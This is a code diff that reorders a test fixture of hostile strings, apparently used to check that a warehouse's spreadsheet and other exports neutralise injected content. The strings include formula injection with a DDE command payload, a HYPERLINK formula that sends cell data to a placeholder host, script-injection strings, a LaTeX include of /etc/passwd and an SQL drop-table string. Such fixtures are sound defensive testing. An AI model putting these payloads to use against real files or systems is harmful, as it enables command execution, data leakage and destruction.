@@ -27,13 +27,14 @@ from warehouse.exports.xlsx import CUT
 HOSTILE = {
     "formula": "=1+1", "plus": "+44 20 7946 0000", "minus": "-2+3", "at": "@SUM(A1:A9)", "dde": "=cmd|' /C calc'!A0",
     "link formula": '=HYPERLINK("http://x.example/?"&A1,"look")', "full width": "＝1+1", "tab": "\t=1+1",
-    "return": "\r=1+1", "quotes": 'He said "=1+1",\n"and left"', "html": "<script>alert(1)</script><img src=x onerror=1>",
-    "markdown": "![t](http://x.example/t.png) [a](javascript:alert(1)) **b**", "latex": "$x^2$ \\include{/etc/passwd} {%",
+    "return": "\r=1+1", "quotes": 'He said "=1+1",\n"and left"', "icon": ":material/delete: :red[x]",
+    "html": "<script>alert(1)</script><img src=x onerror=1>", "latex": "$x^2$ \\include{/etc/passwd} {%",
+    "markdown": "![t](http://x.example/t.png) [a](javascript:alert(1)) **b**", "long": "word " * 8_000,
     "ris": "A title\nER  - \nTY  - JOUR\nTI  - Injected", "ris carriage": "A\r\nER  - \r\n\r\nTY  - NEWS",
     "controls": "a\x00b\x07c\x1bd\x85e\x9ff", "bidi": "abc\u202egpj.exe\u2066x\u2069", "surrogate": "a\ud800b\udfffc",
-    "zero width": "a\u200bb\ufeffc", "marks": "a" + "\u0301" * 500, "astral": "😀𝒜 \U0010ffff", "lines": "a\u2028b\u2029c\x0bd",
-    "xml": "]]> <?xml version='1.0'?> &lol; <!DOCTYPE x>", "icon": ":material/delete: :red[x]", "long": "word " * 8_000,
-    "only space": "   ", "sql": "'; drop table claim; --", "percent": "100% _sure_ ~ ^ # & @article{x,",
+    "zero width": "a\u200bb\ufeffc", "marks": "a" + "\u0301" * 500, "astral": "😀𝒜 \U0010ffff", "only space": "   ",
+    "lines": "a\u2028b\u2029c\x0bd", "xml": "]]> <?xml version='1.0'?> &lol; <!DOCTYPE x>",
+    "sql": "'; drop table claim; --", "percent": "100% _sure_ ~ ^ # & @article{x,",
 }  # fmt: skip
 FIELDS = ("quote", "title", "publisher", "outcome", "note")
 
